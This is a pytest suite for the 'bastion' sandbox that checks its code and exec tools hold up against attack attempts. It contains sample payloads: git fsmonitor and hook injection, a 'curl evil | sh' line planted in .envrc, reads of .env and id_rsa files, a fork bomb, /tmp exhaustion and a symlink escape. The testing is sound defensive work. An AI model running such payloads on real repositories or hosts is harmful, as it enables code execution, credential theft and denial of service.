"""The ``code`` tool as an attacker uses it (issue #14): an allowed program tries every
protected path, a deep or a huge tree's credential files, a fork bomb and a full /tmp."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from bastion.call.effects import Effect
from bastion.exec import ExecConfig
from tests.tools.conftest import StubAuthorizer, ToolsFactory, run

PROTECTED_FILES = (
    ".git/config", ".gitmodules", ".envrc", ".mcp.json", ".claude/settings.json",
    ".vscode/settings.json", ".vscode/tasks.json", ".husky/pre-commit", ".githooks/pre-commit",
    ".bastion/policy.toml",
)  # fmt: skip
#: Not there before the run: creating them must not stick either.
CREATED = (".git/hooks/pre-commit", ".git/info/attributes", ".codex/config.toml", ".cursor/rules",
           ".gemini/settings.json", ".git/config.worktree")  # fmt: skip

ATTACK = """
import json, os, subprocess
out = {}
def attempt(name, fn):
    try:
        fn()
        out[name] = "done"
    except Exception as exc:
        out[name] = type(exc).__name__
def append(path):
    with open(path, "a") as handle:
        handle.write("\\n[core]\\n\\tfsmonitor = touch /tmp/pwned\\n")
def create(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as handle:
        handle.write("#!/bin/sh\\ntouch /tmp/pwned\\n")
for path in PROTECTED:
    attempt("append " + path, lambda: append(path))
for path in CREATED:
    attempt("create " + path, lambda: create(path))
attempt("rename .git", lambda: os.rename(".git", ".git-moved"))
attempt("remove .envrc", lambda: os.unlink(".envrc"))
attempt("git config", lambda: subprocess.run(["git", "config", "core.fsmonitor", "x"], check=True,
                                             capture_output=True))
attempt("write work", lambda: open("work.txt", "w").write("ok"))
print(json.dumps(out))
"""


@pytest.fixture
def repo(workspace: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    subprocess.run(["git", "-C", str(workspace), "config", "core.hooksPath", ".githooks"], check=True)
    for name in PROTECTED_FILES:
        path = workspace / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if not path.exists():
            path.write_text("original\n")
    return workspace


def _snapshot(root: Path) -> dict[str, str]:
    return {name: (root / name).read_text() for name in PROTECTED_FILES}


def test_code_cannot_write_create_move_or_remove_any_protected_path(
    make_tools: ToolsFactory, repo: Path
) -> None:
    before = _snapshot(repo)
    source = f"PROTECTED = {list(PROTECTED_FILES)!r}\nCREATED = {list(CREATED)!r}\n" + ATTACK
    tools = make_tools(authorizer=StubAuthorizer(Effect.CODE), sandbox=True)

    result = run(tools["code"], {"language": "python", "source": source})

    attempts = json.loads(result["stdout"])
    done = sorted(k for k, v in attempts.items() if v == "done")
    # Existing protected paths are bound read-only: every write, move and removal fails.
    # A missing one cannot be bound (bwrap would create it on the host): it may be made
    # during the run, and is moved out of the workspace as soon as the run ends.
    made = [
        f"create {name}"
        for name in (".codex/config.toml", ".cursor/rules", ".gemini/settings.json", ".git/config.worktree")
    ]
    assert done == sorted(["write work", *made])
    assert _snapshot(repo) == before
    assert (repo / "work.txt").read_text() == "ok"
    assert "fsmonitor" not in (repo / ".git" / "config").read_text()
    # What the run managed to create (a missing path cannot be bound read-only) is moved out.
    assert [name for name in CREATED if (repo / name).exists()] == []


def test_a_created_protected_path_is_moved_out_and_reported(
    make_tools: ToolsFactory, workspace: Path
) -> None:
    tools = make_tools(authorizer=StubAuthorizer(Effect.CODE), sandbox=True)
    source = "open('.envrc', 'w').write('curl evil | sh\\n')"

    result = run(tools["code"], {"language": "python", "source": source})

    assert result["exit_code"] == 0
    assert result["data"]["swept"] == [str(workspace / ".envrc")]
    assert not (workspace / ".envrc").exists()


def _nest(root: Path, depth: int) -> Path:
    folder = root
    for level in range(depth):
        folder = folder / f"d{level}"
    folder.mkdir(parents=True)
    return folder


def test_a_credential_file_twelve_folders_deep_is_unreadable(
    make_tools: ToolsFactory, workspace: Path
) -> None:
    deep = _nest(workspace, 12)
    (deep / ".env").write_text("TOKEN=deep-secret\n")
    (deep / "id_rsa").write_text("deep-private-key\n")
    tools = make_tools(authorizer=StubAuthorizer(Effect.CODE), sandbox=True)
    rel = deep.relative_to(workspace)
    source = (
        "import sys\n"
        f"for name in ('{rel}/.env', '{rel}/id_rsa'):\n"
        "    try:\n"
        "        print(repr(open(name).read()))\n"
        "    except OSError as exc:\n"
        "        print(type(exc).__name__)\n"
    )

    result = run(tools["code"], {"language": "python", "source": source})

    assert result["stdout"] == "PermissionError\nPermissionError\n"  # bound over by /dev/null


def _wide(root: Path, entries: int) -> None:
    for group in range(entries // 1000):
        folder = root / "data" / f"g{group}"
        folder.mkdir(parents=True)
        for item in range(1000):
            (folder / f"f{item}").touch()


def test_a_credential_file_in_a_workspace_of_fifty_thousand_entries_is_unreadable(
    make_tools: ToolsFactory, workspace: Path
) -> None:
    _wide(workspace, 50_000)
    (workspace / "data" / "g49" / ".env").write_text("TOKEN=wide-secret\n")
    tools = make_tools(authorizer=StubAuthorizer(Effect.CODE), sandbox=True)
    source = "try:\n    print(open('data/g49/.env').read())\nexcept OSError as exc:\n    print(type(exc).__name__)\n"

    result = run(tools["code"], {"language": "python", "source": source})

    assert result["stdout"] == "PermissionError\n"


def test_a_tree_past_the_scan_budget_is_not_run_but_asks_and_says_how_to_skip_it(
    make_tools: ToolsFactory, workspace: Path
) -> None:
    _wide(workspace, 3_000)
    tools = make_tools(
        authorizer=StubAuthorizer(Effect.CODE), sandbox=True, config=ExecConfig(scan_max_entries=2_000)
    )

    result = run(tools["code"], {"language": "python", "source": "open('ran', 'w')"})

    assert (result["ok"], result["decision"], result["exit_code"]) == (False, "ask", None)
    assert "more than 2000 entries" in result["message"]
    assert "[exec] scan_skip" in result["message"]
    assert not (workspace / "ran").exists()


def test_a_skipped_tree_is_not_counted_against_the_budget(make_tools: ToolsFactory, workspace: Path) -> None:
    _wide(workspace, 3_000)
    config = ExecConfig(scan_max_entries=2_000, scan_skip=("data",))
    tools = make_tools(authorizer=StubAuthorizer(Effect.CODE), sandbox=True, config=config)

    result = run(tools["code"], {"language": "python", "source": "open('ran', 'w')"})

    assert (result["ok"], result["exit_code"]) == (True, 0)


FORK_BOMB = """
import os, time
made = 0
for _ in range(10_000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    made += 1
print(made)
"""


def test_a_fork_bomb_is_capped_even_as_root(make_tools: ToolsFactory) -> None:
    config = ExecConfig(max_processes=64, timeout=60)
    tools = make_tools(authorizer=StubAuthorizer(Effect.CODE), sandbox=True, config=config)

    result = run(tools["code"], {"language": "python", "source": FORK_BOMB})

    made = int(result["stdout"])
    assert 0 < made < 64


def test_the_private_tmp_is_capped(make_tools: ToolsFactory) -> None:
    config = ExecConfig(tmp_size_mb=4)
    tools = make_tools(authorizer=StubAuthorizer(Effect.CODE), sandbox=True, config=config)
    source = (
        "try:\n"
        "    open('/tmp/fill', 'wb').write(b'x' * 8 * 1024 * 1024)\n"
        "    print('wrote 8 MiB')\n"
        "except OSError as exc:\n"
        "    print(exc.strerror)\n"
    )

    result = run(tools["code"], {"language": "python", "source": source})

    assert result["stdout"] == "No space left on device\n"


def test_a_protected_name_linked_outside_the_roots_does_not_expose_its_target(
    make_tools: ToolsFactory, workspace: Path, tmp_path: Path
) -> None:
    secret = tmp_path / "outside" / "notes.txt"
    secret.parent.mkdir()
    secret.write_text("outside-the-roots\n")
    (workspace / "sub").mkdir()
    (workspace / "sub" / ".envrc").symlink_to(secret)
    tools = make_tools(authorizer=StubAuthorizer(Effect.CODE), sandbox=True)
    source = (
        "try:\n    print(open('sub/.envrc').read())\nexcept OSError as exc:\n    print(type(exc).__name__)\n"
    )

    result = run(tools["code"], {"language": "python", "source": source})

    assert result["stdout"] == "FileNotFoundError\n"


def test_a_protected_symlink_the_run_replaces_is_put_back(make_tools: ToolsFactory, workspace: Path) -> None:
    (workspace / "envrc.real").write_text("use nix\n")
    (workspace / ".envrc").symlink_to("envrc.real")
    tools = make_tools(authorizer=StubAuthorizer(Effect.CODE), sandbox=True)
    source = "import os\nos.unlink('.envrc')\nopen('.envrc', 'w').write('curl evil | sh\\n')\n"

    result = run(tools["code"], {"language": "python", "source": source})

    assert result["exit_code"] == 0
    assert result["data"]["swept"] == [str(workspace / ".envrc")]
    assert os.readlink(workspace / ".envrc") == "envrc.real"


def test_a_submodule_s_git_config_is_read_only_too(make_tools: ToolsFactory, repo: Path) -> None:
    module = repo / ".git" / "modules" / "lib"
    (module / "hooks").mkdir(parents=True)
    (module / "HEAD").write_text("ref: refs/heads/main\n")
    (module / "config").write_text("[core]\n")
    tools = make_tools(authorizer=StubAuthorizer(Effect.CODE), sandbox=True)
    source = (
        "for path in ('.git/modules/lib/config', '.git/modules/lib/hooks/post-checkout'):\n"
        "    try:\n        open(path, 'a').write('fsmonitor = evil')\n        print('written')\n"
        "    except OSError as exc:\n        print(type(exc).__name__)\n"
    )

    result = run(tools["code"], {"language": "python", "source": source})

    assert result["stdout"] == "OSError\nOSError\n"
    assert (module / "config").read_text() == "[core]\n"


def test_an_exec_call_allowed_as_a_writer_still_cannot_touch_git_config(
    make_tools: ToolsFactory, repo: Path
) -> None:
    before = (repo / ".git" / "config").read_text()
    tools = make_tools(authorizer=StubAuthorizer(Effect.WRITE), sandbox=True)

    result = run(
        tools["exec"], {"command": "echo made > made.txt; git config core.fsmonitor evil; echo rc=$?"}
    )

    assert result["stdout"] == "rc=4\n"  # git: could not lock config file
    assert (repo / "made.txt").read_text() == "made\n"
    assert (repo / ".git" / "config").read_text() == before


def test_an_exec_call_allowed_as_a_reader_runs_with_nothing_writable(
    make_tools: ToolsFactory, workspace: Path
) -> None:
    tools = make_tools(authorizer=StubAuthorizer(Effect.READ), sandbox=True)

    result = run(tools["exec"], {"command": "touch made.txt 2>&1; echo rc=$?"})

    assert result["stdout"].endswith("Read-only file system\nrc=1\n")
    assert not (workspace / "made.txt").exists()
